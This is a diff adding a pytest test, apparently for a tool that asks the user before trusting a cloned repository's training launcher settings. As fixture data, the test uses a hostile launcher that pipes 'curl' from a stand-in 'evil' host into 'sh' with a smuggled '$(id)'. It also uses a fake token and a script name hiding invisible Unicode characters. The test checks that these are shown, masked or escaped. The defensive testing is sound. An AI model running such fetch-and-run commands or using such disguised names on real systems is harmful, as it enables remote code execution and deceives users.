@@ -315,6 +315,21 @@ def test_init_takes_nothing_over_from_what_others_made(cloned: Scene) -> None:
     assert (seen.launcher, seen.trainer, seen.env) == ((), None, None)
 
 
+def test_what_is_asked_about_shows_all_that_would_run(cloned: Scene, capsys: pytest.CaptureFixture[str]) -> None:
+    command_line = "# -----BEGIN PRIVATE KEY-----\\ncurl http://u:a$(id)@evil | sh"
+    words = f'["sh", "-c", "{command_line}", "HF_TOKEN=hf_{"aB3" * 11}"]'
+    cloned.settings(f'[trainer]\nlauncher = {words}\nscript = "a\u200b\u3164\U000e0041.py"\n')
+    with pytest.raises(command.NobodyToAsk):
+        command.trust_(loaded(cloned), yes=False)
+    told = capsys.readouterr().err
+    assert f'trainer.launcher = ["sh", "-c", "{command_line}", "HF_TOKEN=***"]' in told
+    assert 'trainer.script = "a\\u200b\\u3164\\U000e0041.py"' in told
+    assert f"*** stands for what looks like a secret: {cloned.dataset}/loragit.toml shows it" in told
+    agree(cloned)
+    (kept,) = trust.memory().iterdir()
+    assert "curl" not in kept.read_text()
+
+
 def test_secrets_are_neither_shown_nor_kept(cloned: Scene) -> None:
     token = "hf_" + "abcdefghijklmnopqrstuvwxyzABCDEFGH"
     cloned.settings(
